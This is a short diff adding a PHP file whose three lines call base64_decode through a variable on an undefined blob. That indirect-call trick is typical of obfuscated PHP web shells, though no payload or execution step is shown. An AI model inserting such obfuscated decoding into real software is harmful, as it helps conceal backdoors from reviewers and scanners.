@@ -1,0 +1,3 @@
+<?php
+$d = "base64_decode";
+$p = $d($blob);
